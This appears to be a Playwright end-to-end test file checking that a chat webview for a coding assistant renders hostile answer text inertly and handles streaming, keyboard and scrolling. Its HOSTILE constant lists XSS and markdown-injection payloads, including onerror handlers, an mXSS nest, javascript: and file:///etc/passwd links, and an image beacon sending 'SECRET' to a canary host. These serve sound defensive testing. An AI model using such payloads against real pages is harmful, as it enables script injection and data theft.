/**
 * What only a real browser can show of the chat page: hostile answers stay text under the real policy, nothing
 * leaves the page, streaming keeps the DOM of finished blocks, and the keyboard works.
 * Run by the end-to-end ring.
 */
import { strict as assert } from "node:assert";
import type { Browser } from "playwright-core";
import { emptyAnswer } from "../../src/protocol/chat-entries.ts";
import type { HostMessage } from "../../src/protocol/chat-view.ts";
import { type ChatPage, openChatPage } from "./chat-page.ts";
import { SCENES } from "./chat-page-scenes.ts";
import { waitFor } from "./processes.ts";

const HOSTILE = [
  "<script>globalThis.pwned = 1</script>",
  "<img src=x onerror='globalThis.pwned = 1'>",
  '<svg><animate onbegin="globalThis.pwned=1" attributeName=x>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.pwned=1&gt;">',
  "![x](https://canary.test/?d=SECRET)",
  "<video poster=https://canary.test/v><source src=https://canary.test/s></video>",
  "<link rel=stylesheet href=https://canary.test/c.css><style>@import url(https://canary.test)</style>",
  "[click](javascript:globalThis.pwned=1) [c](command:workbench.action.quit) [f](file:///etc/passwd)",
  "[v](vscode://x/y) [d](data:text/html,<script>1</script>) <https://canary.test/autolink>",
  '```"><img src=x onerror=globalThis.pwned=1>\n</code></pre><img src=x onerror=globalThis.pwned=1>\n```',
  "<meta http-equiv=refresh content='0;url=https://canary.test'><base href=https://canary.test>",
].join("\n\n");

type Check = (chat: ChatPage) => Promise<void>;

/** What is typed or sent is drawn in a later frame: waits until it is. */
async function becomes(what: string, holds: () => Promise<boolean>): Promise<void> {
  assert.ok(await waitFor(holds, 20_000), what);
}

function answered(text: string): HostMessage {
  const { context } = SCENES["empty"] as Extract<HostMessage, { kind: "snapshot" }>;
  const failure = {
    language: HOSTILE,
    error: HOSTILE,
    message: HOSTILE,
    text: "",
    causes: [],
    frames: [{ path: HOSTILE, line: 1, function: HOSTILE, origin: "workspace", resolvedUri: "file:///x" }],
  } as const;
  return {
    kind: "snapshot",
    conversation: "c",
    context: { ...context, offered: { id: "x", label: HOSTILE, origin: "file" } },
    draft: "",
    entries: [
      { kind: "question", id: "q", at: 0, text: HOSTILE, attachments: [{ label: HOSTILE, text: "" }] },
      { kind: "failure", id: "f", at: 0, origin: "terminal", command: HOSTILE, failure },
      { ...emptyAnswer("a", 0), state: "done", thought: HOSTILE, text },
    ],
  };
}

const hostileText: Check = async ({ page, send, incidents, posted }) => {
  await send(answered(HOSTILE));
  await page.locator("button.thought-title").click();
  await page.locator("article.answer > .markdown .block").nth(8).waitFor();
  for (const link of await page.locator("article.answer .link").all()) await link.click();
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate("globalThis.pwned"), undefined, "a script of an answer ran");
  const elements =
    "script:not([nonce]),img,svg,video,iframe,style,meta[http-equiv=refresh],base,[onerror],[href]:not(link)";
  assert.equal(
    await page.locator(`#root :is(${elements})`).count(),
    0,
    "an answer brought elements of its own",
  );
  assert.deepEqual(incidents, [], "something was requested or violated the policy");
  for (const message of await posted()) {
    if (message.kind === "openLink") assert.match(message.url, /^https:\/\//);
  }
};

const streaming: Check = async ({ page, send }) => {
  const { context } = SCENES["empty"] as Extract<HostMessage, { kind: "snapshot" }>;
  const entries = [{ ...emptyAnswer("a", 0), state: "streaming" as const }];
  await send({ kind: "snapshot", conversation: "c", entries, context, draft: "" });
  const append = (text: string) => send({ kind: "change", change: { kind: "append", id: "a", text } });
  await append("First *block*.\n\n```ts\nlet a");
  await page.locator(".code pre").waitFor();
  await page.evaluate("for (const e of document.querySelectorAll('.block, .code')) e.marked = true");
  for (const text of [" = 1;", "\nlet b;", "\n```\n\nEnd."]) await append(text);
  await page.locator(".block", { hasText: "End." }).waitFor();
  const marks = await page.evaluate(
    "[...document.querySelectorAll('.block, .code')].map((e) => e.marked === true)",
  );
  assert.deepEqual(marks, [true, true, true, false], "finished blocks were drawn again");
};

const keyboard: Check = async ({ page, send, posted }) => {
  await send(SCENES["answered"] as HostMessage);
  const title = page.locator("button.thought-title");
  // Drawn a moment after the message came; before that there is nothing to bring back.
  await title.waitFor();
  const box = page.getByLabel("Message to Gemwright");
  await box.press("ArrowUp");
  await becomes("Up does not bring the last message back", async () =>
    (await box.inputValue()).startsWith("Why does"),
  );
  await box.fill("one");
  await box.press("Shift+Enter");
  await box.pressSequentially("two");
  await box.press("Enter");
  assert.deepEqual(
    (await posted()).filter(({ kind }) => kind === "send"),
    [{ kind: "send", text: "one\ntwo" }],
  );
  await becomes("what was sent stays in the box", async () => (await box.inputValue()) === "");
  await title.focus();
  await page.keyboard.press("Enter");
  // Drawn a moment after the key; fails, with the locator's name, when it never opens.
  await page.locator('button.thought-title[aria-expanded="true"]').waitFor();
  await send(SCENES["thinking"] as HostMessage);
  await page.getByRole("button", { name: "Stop" }).waitFor();
  await page.keyboard.press("Escape");
  assert.ok(
    (await posted()).some(({ kind }) => kind === "stop"),
    "Escape does not stop",
  );
};

const GAP = "((e) => e.scrollHeight - e.scrollTop - e.clientHeight)(document.querySelector('.transcript'))";

/** Pixels between what is seen of the conversation and its end. */
const distance = async ({ page }: ChatPage) => Number(await page.evaluate(GAP));

async function atTheEnd(chat: ChatPage, when: string): Promise<void> {
  await becomes(`the end is not in sight ${when}`, async () => (await distance(chat)) < 2);
}

async function append({ page, send }: ChatPage, text: string): Promise<void> {
  await send({ kind: "change", change: { kind: "append", id: "a1", text: `\n\n${text}` } });
  await page.locator(".block", { hasText: text }).waitFor();
}

const scrolling: Check = async (chat) => {
  const { page, send } = chat;
  await send(SCENES["answered"] as HostMessage);
  await page.locator(".usage").waitFor();
  await atTheEnd(chat, "when a conversation opens");
  await page.locator(".transcript").hover();
  await page.mouse.wheel(0, -300);
  await page.getByRole("button", { name: "Go to the end" }).waitFor();
  await append(chat, "More of it.");
  // Whatever follows the drawing has happened in two frames.
  await page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))");
  assert.ok((await distance(chat)) > 100, "growing text pulls the reader away");
  await page.getByRole("button", { name: "Go to the end" }).click();
  await atTheEnd(chat, "after it was asked for");
};

const resizing: Check = async (chat) => {
  const { page, send } = chat;
  await send(SCENES["answered"] as HostMessage);
  await page.locator(".usage").waitFor();
  await atTheEnd(chat, "when a conversation opens");
  const larger = "document.documentElement.style.setProperty('--vscode-font-size', '17px')";
  for (const [when, change] of [
    ["in a narrower view", () => page.setViewportSize({ width: 280, height: 700 })],
    ["in a lower view", () => page.setViewportSize({ width: 280, height: 500 })],
    ["in a larger font", () => page.evaluate(larger)],
  ] as const) {
    await change();
    await atTheEnd(chat, when);
    await append(chat, `More of it ${when}.`);
    await atTheEnd(chat, `${when}, when more comes`);
  }
  assert.equal(await page.getByRole("button", { name: "Go to the end" }).count(), 0);
};

const CHECKS: Readonly<Record<string, Check>> = { hostileText, streaming, keyboard, scrolling, resizing };

/** What is checked, for a test runner that lists it. */
export const CHAT_PAGE_CHECKS = Object.keys(CHECKS);

/** Runs one check on a fresh page; rejects when it does not hold. */
export async function checkChatPage(browser: Browser, name: string): Promise<void> {
  const check = CHECKS[name];
  assert.ok(check, `no check is called ${name}`);
  const chat = await openChatPage(browser, { theme: "dark", width: 400, height: 700 });
  try {
    await check(chat);
  } finally {
    await chat.page.close();
  }
}
